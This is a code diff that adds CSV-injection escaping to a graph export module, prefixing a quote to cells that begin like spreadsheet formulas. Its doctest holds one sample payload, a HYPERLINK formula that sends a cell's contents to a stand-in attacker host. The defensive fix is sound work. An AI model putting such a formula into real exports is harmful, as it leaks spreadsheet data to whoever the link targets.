@@ -59,13 +59,26 @@ def graphml(graph: nx.MultiDiGraph) -> str:
     return "\n".join(nx.generate_graphml(_flat(graph))) + "\n"
 
 
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def cell(text: str) -> str:
+    """A CSV cell a spreadsheet shows as text: a cell starting like a formula gets a leading `'`
+    (OWASP's advice for CSV injection), since titles come from listings anyone can write.
+
+    >>> print(cell('=HYPERLINK("http://evil.example/?"&A1,"click")'), cell("+1"), cell("ResNet"))
+    '=HYPERLINK("http://evil.example/?"&A1,"click") '+1 ResNet
+    """
+    return f"'{text}" if text.startswith(_FORMULA_START) else text
+
+
 def nodes_csv(graph: nx.MultiDiGraph) -> str:
     out = io.StringIO()
     writer = csv.writer(out, lineterminator="\n")
     writer.writerow(["id", "type", "label", "aliases", "code_status", "sources"])
     for node, data in sorted(graph.nodes(data=True)):
-        writer.writerow([node, data["type"], data.get("label", ""), "|".join(data.get("aliases", [])),
-                         data.get("code_status", ""), "|".join(data.get("sources", []))])
+        writer.writerow(map(cell, [node, data["type"], data.get("label", ""), "|".join(data.get("aliases", [])),
+                                   data.get("code_status", ""), "|".join(data.get("sources", []))]))
     return out.getvalue()
 
 
@@ -75,7 +88,7 @@ def edges_csv(graph: nx.MultiDiGraph) -> str:
     writer.writerow(["source", "predicate", "target", "confidence", "extractor", "evidence"])
     for s, o, key, data in sorted(graph.edges(keys=True, data=True), key=lambda e: e[:3]):
         best = data["evidence"][0] if data["evidence"] else {"extractor": "", "sentence": ""}
-        writer.writerow([s, key, o, f"{data['confidence']:.2f}", best["extractor"], best["sentence"]])
+        writer.writerow([cell(s), key, cell(o), f"{data['confidence']:.2f}", best["extractor"], cell(best["sentence"])])
     return out.getvalue()
 
 
